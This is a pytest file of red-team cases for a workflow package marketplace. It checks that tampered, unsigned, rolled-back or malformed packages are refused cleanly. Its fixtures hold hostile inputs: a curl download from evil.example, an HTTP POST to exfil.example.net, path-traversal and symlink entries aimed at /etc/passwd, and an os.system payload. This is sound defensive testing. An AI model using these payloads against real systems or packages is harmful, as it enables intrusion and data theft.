"""The red-team set: hostile registries and packages, built at test time, each refused with one clear line.

Every case must leave the installation untouched: nothing installed, nothing active, no staging left
over, and not one byte written outside the data dir (the registry folders are compared before/after).
"""

from __future__ import annotations

import json
import tarfile
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest

from hololoom_core.marketplace.errors import MarketplaceError
from hololoom_core.marketplace.publish import publish, write_index
from hololoom_core.marketplace.service import Marketplace
from hololoom_core.marketplace.signing import SigningKey
from tests.marketplace.support import (
    add_archive,
    index_document,
    make_config,
    make_key,
    package_folder,
    raw_archive,
    simple_archive,
    snapshot,
    trusted,
    workflow_text,
)

WORKFLOW = workflow_text("hostile-flow", "1.0.0").encode()


@dataclass
class Setup:
    """What one hostile case prepared: the request to install and config tweaks."""

    request: str
    expect: str
    registry: dict[str, Any] = field(default_factory=dict)
    market: dict[str, Any] = field(default_factory=dict)
    workflows: dict[str, Any] = field(default_factory=dict)
    before: Callable[[Marketplace], None] | None = None


Case = Callable[[Path, SigningKey, SigningKey], Setup]


def _member(name: str, kind: bytes, link: str = "") -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type = kind
    info.linkname = link
    return info


def _with_members(reg: Path, key: SigningKey, *members: Any) -> None:
    files = {"workflows/hostile.yaml": WORKFLOW}
    manifest = simple_archive("evil", "1.0.0", files)
    del manifest  # the archive below carries the manifest plus the hostile members
    from tests.marketplace.support import manifest_for

    add_archive(reg, key, "evil", "1.0.0", raw_archive([
        ("hololoom-package.yaml", manifest_for("evil", "1.0.0", files)), ("workflows/hostile.yaml", WORKFLOW),
        *members]))


def _publish(tmp: Path, reg: Path, key: SigningKey, name: str, version: str, **options: Any) -> None:
    publish(package_folder(tmp / "src", name, version, **options), reg, key)


def tampered_tarball(tmp: Path, key: SigningKey, other: SigningKey) -> Setup:
    reg = tmp / "reg"
    _publish(tmp, reg, key, "evil", "1.0.0")
    path = reg / "packages" / "evil-1.0.0.tar.gz"
    data = bytearray(path.read_bytes())
    data[-20] ^= 0xFF
    path.write_bytes(bytes(data))
    return Setup("evil", "does not match the index")


def tampered_index(tmp: Path, key: SigningKey, other: SigningKey) -> Setup:
    reg = tmp / "reg"
    _publish(tmp, reg, key, "evil", "1.0.0")
    text = (reg / "index.json").read_text().replace("evil for tests", "evil for everyone")
    (reg / "index.json").write_text(text)
    return Setup("evil", "does not match its signature")


def unsigned_registry(tmp: Path, key: SigningKey, other: SigningKey) -> Setup:
    reg = tmp / "reg"
    _publish(tmp, reg, key, "evil", "1.0.0")
    (reg / "index.json.sig").unlink()
    return Setup("evil", "is not signed")


def untrusted_key(tmp: Path, key: SigningKey, other: SigningKey) -> Setup:
    _publish(tmp, tmp / "reg", other, "evil", "1.0.0")
    return Setup("evil", "untrusted key")


def garbage_signature(tmp: Path, key: SigningKey, other: SigningKey) -> Setup:
    reg = tmp / "reg"
    _publish(tmp, reg, key, "evil", "1.0.0")
    (reg / "index.json.sig").write_text(json.dumps({"key_id": key.key_id, "signature": "AAAA"}))
    return Setup("evil", "does not match its signature")


def retagged_version(tmp: Path, key: SigningKey, other: SigningKey) -> Setup:
    reg = tmp / "reg"
    _publish(tmp, reg, key, "evil", "1.0.0")

    def install_then_retag(market: Marketplace) -> None:
        market.commit(market.plan_install("evil@==1.0.0"))
        archive = simple_archive("evil", "1.0.0", {"workflows/evil.yaml": workflow_text("evil-flow", "9.9.9").encode()})
        add_archive(reg, key, "evil", "1.0.0", archive)
        market._indexes = None
        market._downloads.clear()

    return Setup("evil@==1.0.0", "re-tagged", before=install_then_retag)


def index_rollback(tmp: Path, key: SigningKey, other: SigningKey) -> Setup:
    reg = tmp / "reg"
    _publish(tmp, reg, key, "evil", "1.0.0")
    old_index, old_sig = (reg / "index.json").read_bytes(), (reg / "index.json.sig").read_bytes()
    _publish(tmp, reg, key, "evil", "1.1.0")

    def see_new_then_serve_old(market: Marketplace) -> None:
        market.indexes(refresh=True)
        (reg / "index.json").write_bytes(old_index)
        (reg / "index.json.sig").write_bytes(old_sig)
        market._indexes = None

    return Setup("evil", "older than version", before=see_new_then_serve_old)


def expired_index(tmp: Path, key: SigningKey, other: SigningKey) -> Setup:
    reg = tmp / "reg"
    archive = simple_archive("evil", "1.0.0", {"workflows/evil.yaml": WORKFLOW})
    add_archive(reg, key, "evil", "1.0.0", archive, index=index_document(3, expires_in=timedelta(days=-1)))
    return Setup("evil", "expired")


def schema_invalid_index(tmp: Path, key: SigningKey, other: SigningKey) -> Setup:
    reg = tmp / "reg"
    index = index_document(2)
    index["packages"]["evil"] = {"versions": {"1.0.0": {"file": "packages/../../etc/passwd", "sha256": "0" * 64}}}
    reg.mkdir(parents=True)
    write_index(reg, index, key)
    return Setup("evil", "index.json at packages/evil/versions/1.0.0/file")


def schema_invalid_manifest(tmp: Path, key: SigningKey, other: SigningKey) -> Setup:
    archive = simple_archive("evil", "1.0.0", {"workflows/evil.yaml": WORKFLOW}, category="Not A Category!")
    add_archive(tmp / "reg", key, "evil", "1.0.0", archive)
    return Setup("evil", "hololoom-package.yaml at category")


def manifest_name_mismatch(tmp: Path, key: SigningKey, other: SigningKey) -> Setup:
    archive = simple_archive("innocent", "1.0.0", {"workflows/evil.yaml": WORKFLOW})
    add_archive(tmp / "reg", key, "evil", "1.0.0", archive)
    return Setup("evil", "the manifest says innocent 1.0.0")


def manifest_version_mismatch(tmp: Path, key: SigningKey, other: SigningKey) -> Setup:
    archive = simple_archive("evil", "0.9.0", {"workflows/evil.yaml": WORKFLOW})
    add_archive(tmp / "reg", key, "evil", "1.0.0", archive)
    return Setup("evil", "the manifest says evil 0.9.0")


def file_hash_mismatch(tmp: Path, key: SigningKey, other: SigningKey) -> Setup:
    from tests.marketplace.support import manifest_for

    manifest = manifest_for("evil", "1.0.0", {"workflows/evil.yaml": b"something else"})
    add_archive(tmp / "reg", key, "evil", "1.0.0", raw_archive([("hololoom-package.yaml", manifest),
                                                                ("workflows/evil.yaml", WORKFLOW)]))
    return Setup("evil", "does not match its sha256 in the manifest")


def undeclared_file(tmp: Path, key: SigningKey, other: SigningKey) -> Setup:
    from tests.marketplace.support import manifest_for

    manifest = manifest_for("evil", "1.0.0", {"workflows/evil.yaml": WORKFLOW})
    add_archive(tmp / "reg", key, "evil", "1.0.0", raw_archive([
        ("hololoom-package.yaml", manifest), ("workflows/evil.yaml", WORKFLOW),
        ("runbooks/extra.md", b"# not declared")]))
    return Setup("evil", "not in the manifest's files")


def path_traversal(tmp: Path, key: SigningKey, other: SigningKey) -> Setup:
    _with_members(tmp / "reg", key, ("workflows/../../../escape.yaml", WORKFLOW))
    return Setup("evil", "climbs out with '..'")


def absolute_path(tmp: Path, key: SigningKey, other: SigningKey) -> Setup:
    _with_members(tmp / "reg", key, ("/tmp/absolute-evil.yaml", WORKFLOW))
    return Setup("evil", "absolute or Windows path")


def symlink_member(tmp: Path, key: SigningKey, other: SigningKey) -> Setup:
    _with_members(tmp / "reg", key, _member("workflows/link.yaml", tarfile.SYMTYPE, "/etc/passwd"))
    return Setup("evil", "symbolic link")


def hardlink_member(tmp: Path, key: SigningKey, other: SigningKey) -> Setup:
    _with_members(tmp / "reg", key, _member("workflows/hard.yaml", tarfile.LNKTYPE, "workflows/hostile.yaml"))
    return Setup("evil", "hard link")


def device_member(tmp: Path, key: SigningKey, other: SigningKey) -> Setup:
    _with_members(tmp / "reg", key, _member("workflows/dev.yaml", tarfile.CHRTYPE))
    return Setup("evil", "device or pipe")


def fifo_member(tmp: Path, key: SigningKey, other: SigningKey) -> Setup:
    _with_members(tmp / "reg", key, _member("workflows/pipe.yaml", tarfile.FIFOTYPE))
    return Setup("evil", "device or pipe")


def too_many_files(tmp: Path, key: SigningKey, other: SigningKey) -> Setup:
    files = {f"runbooks/r{i}.md": f"# runbook {i}\n" for i in range(12)}
    _publish(tmp, tmp / "reg", key, "evil", "1.0.0", files=files)
    return Setup("evil", "more than 8 entries", market={"max_files": 8})


def too_big(tmp: Path, key: SigningKey, other: SigningKey) -> Setup:
    _publish(tmp, tmp / "reg", key, "evil", "1.0.0", files={"runbooks/big.md": "# big\n" + "x" * 5000})
    return Setup("evil", "unpacks to more than 2000 bytes", market={"max_unpacked_bytes": 2000})


def code_file(tmp: Path, key: SigningKey, other: SigningKey) -> Setup:
    _with_members(tmp / "reg", key, ("workflows/payload.py", b"import os\nos.system('id')\n"))
    return Setup("evil", "may not carry (.py; no code)")


def file_outside_allowed_folders(tmp: Path, key: SigningKey, other: SigningKey) -> Setup:
    _with_members(tmp / "reg", key, ("plugins/hook.yaml", b"x: 1\n"))
    return Setup("evil", "is not a file a package may carry")


def not_a_tarball(tmp: Path, key: SigningKey, other: SigningKey) -> Setup:
    add_archive(tmp / "reg", key, "evil", "1.0.0", b"#!/bin/sh\necho pwned\n")
    return Setup("evil", "not a gzip tar archive")


def schema_invalid_workflow(tmp: Path, key: SigningKey, other: SigningKey) -> Setup:
    bad = "name: evil-flow\nsteps:\n  - say: hi\n  - ask: ok?\n    timeout: soon\n"
    _publish(tmp, tmp / "reg", key, "evil", "1.0.0", files={"workflows/evil.yaml": "name: evil-flow\nsteps:\n"
                                                             "  - say: ok\n"})
    archive = simple_archive("evil", "1.0.1", {"workflows/evil.yaml": bad.encode()})
    add_archive(tmp / "reg", key, "evil", "1.0.1", archive)
    return Setup("evil@==1.0.1", "workflows/evil.yaml:5: step 2 (ask) timeout")


def invalid_runbook(tmp: Path, key: SigningKey, other: SigningKey) -> Setup:
    _publish(tmp, tmp / "reg", key, "evil", "1.0.0", files={"runbooks/half.yaml": "id: half\ntitle: Half\n"})
    return Setup("evil", "runbooks/half.yaml: missing key(s) summary")


def markdown_runbook_without_title(tmp: Path, key: SigningKey, other: SigningKey) -> Setup:
    _publish(tmp, tmp / "reg", key, "evil", "1.0.0", files={"runbooks/notes.md": "just notes\n- a step\n"})
    return Setup("evil", "runbooks/notes.md: a Markdown runbook starts with a '# Title' line")


def disallowed_shell(tmp: Path, key: SigningKey, other: SigningKey) -> Setup:
    steps = "  - shell: \"curl -s https://evil.example/x.sh -o /tmp/x.sh\"\n"
    _publish(tmp, tmp / "reg", key, "evil", "1.0.0",
             files={"workflows/evil.yaml": workflow_text("evil-flow", "1.0.0", steps=steps)})
    return Setup("evil", "workflows.shell_allow does not allow", workflows={"shell_allow": ["kubectl get *"]})


def disallowed_http_host(tmp: Path, key: SigningKey, other: SigningKey) -> Setup:
    steps = "  - http:\n      url: https://exfil.example.net/collect\n      method: POST\n      json: {a: 1}\n"
    _publish(tmp, tmp / "reg", key, "evil", "1.0.0",
             files={"workflows/evil.yaml": workflow_text("evil-flow", "1.0.0", steps=steps)})
    return Setup("evil", "host exfil.example.net", workflows={"http_allow_hosts": ["status.example.com"]})


def templated_http_host(tmp: Path, key: SigningKey, other: SigningKey) -> Setup:
    steps = "  - http: \"https://{{ run.user }}.example.net/x\"\n"
    _publish(tmp, tmp / "reg", key, "evil", "1.0.0",
             files={"workflows/evil.yaml": workflow_text("evil-flow", "1.0.0", steps=steps)})
    return Setup("evil", "host is computed at run time", workflows={"http_allow_hosts": ["*"]})


def step_bomb(tmp: Path, key: SigningKey, other: SigningKey) -> Setup:
    steps = "".join(f"  - say: step {i}\n" for i in range(260))
    _publish(tmp, tmp / "reg", key, "evil", "1.0.0",
             files={"workflows/evil.yaml": workflow_text("evil-flow", "1.0.0", steps=steps)})
    return Setup("evil", "260 steps, more than the budget of 200")


def shadows_local_workflow(tmp: Path, key: SigningKey, other: SigningKey) -> Setup:
    _publish(tmp, tmp / "reg", key, "evil", "1.0.0",
             files={"workflows/evil.yaml": workflow_text("deploy-rollback", "1.0.0")})
    return Setup("evil", "is already taken by")


def dependency_cycle(tmp: Path, key: SigningKey, other: SigningKey) -> Setup:
    reg = tmp / "reg"
    _publish(tmp, reg, key, "evil", "1.0.0", depends={"evil-twin": ">=1"})
    _publish(tmp, reg, key, "evil-twin", "1.0.0", depends={"evil": ">=1"})
    return Setup("evil", "dependency cycle evil → evil-twin → evil")


def unsatisfiable_range(tmp: Path, key: SigningKey, other: SigningKey) -> Setup:
    _publish(tmp, tmp / "reg", key, "evil", "1.0.0")
    return Setup("evil@>=3,<4", "no version of evil satisfies '<4,>=3' (available: 1.0.0)")


def missing_dependency(tmp: Path, key: SigningKey, other: SigningKey) -> Setup:
    _publish(tmp, tmp / "reg", key, "evil", "1.0.0", depends={"ghost": ">=1"})
    return Setup("evil", "no version of ghost satisfies")


def prerelease_only(tmp: Path, key: SigningKey, other: SigningKey) -> Setup:
    _publish(tmp, tmp / "reg", key, "evil", "2.0.0rc1")
    return Setup("evil@>=1", "no version of evil satisfies")


def needs_newer_hololoom(tmp: Path, key: SigningKey, other: SigningKey) -> Setup:
    _publish(tmp, tmp / "reg", key, "evil", "1.0.0", extra={"requires_hololoom": ">=99"})
    return Setup("evil", "needs HoloLoom >=99")


def unknown_package(tmp: Path, key: SigningKey, other: SigningKey) -> Setup:
    _publish(tmp, tmp / "reg", key, "evil", "1.0.0")
    return Setup("typo-squat", "no version of typo-squat satisfies 'any' (no registry offers it)")


CASES: list[Case] = [
    tampered_tarball, tampered_index, unsigned_registry, untrusted_key, garbage_signature, retagged_version,
    index_rollback, expired_index, schema_invalid_index, schema_invalid_manifest, manifest_name_mismatch,
    manifest_version_mismatch, file_hash_mismatch, undeclared_file, path_traversal, absolute_path, symlink_member,
    hardlink_member, device_member, fifo_member, too_many_files, too_big, code_file, file_outside_allowed_folders,
    not_a_tarball, schema_invalid_workflow, invalid_runbook, markdown_runbook_without_title, disallowed_shell, disallowed_http_host, templated_http_host, step_bomb,
    shadows_local_workflow, dependency_cycle, unsatisfiable_range, missing_dependency, prerelease_only,
    needs_newer_hololoom, unknown_package,
]


def test_the_red_team_set_is_large_enough() -> None:
    assert len(CASES) >= 25


@pytest.mark.parametrize("case", CASES, ids=[case.__name__ for case in CASES])
def test_hostile_case_is_refused_with_one_line(case: Case, tmp_path: Path) -> None:
    key, other = make_key(tmp_path / "keys", "team-key"), make_key(tmp_path / "keys", "stranger")
    setup = case(tmp_path, key, other)
    data_dir = tmp_path / "data"
    config = make_config(data_dir, [{"name": "team", "url": str(tmp_path / "reg"), **setup.registry}],
                         trusted(key), workflows=setup.workflows, **setup.market)
    market = Marketplace(config)
    installed_before: dict[str, Any] = {}
    if setup.before is not None:
        setup.before(market)
        installed_before = market.installed()
    outside = snapshot(tmp_path, data_dir)
    with pytest.raises(MarketplaceError) as refused:
        market.indexes(refresh=True)
        if "team" in market.problems:
            raise MarketplaceError(market.problems["team"])
        market.commit(market.plan_install(setup.request))
    message = str(refused.value)
    assert "\n" not in message and "Traceback" not in message
    assert setup.expect in message, message
    assert market.installed() == installed_before
    active = sorted(path.name for path in (data_dir / "marketplace" / "active").iterdir()) \
        if (data_dir / "marketplace" / "active").exists() else []
    assert active == sorted(installed_before)
    staging = data_dir / "marketplace" / "staging"
    assert not staging.exists() or not any(staging.iterdir())
    assert snapshot(tmp_path, data_dir) == outside
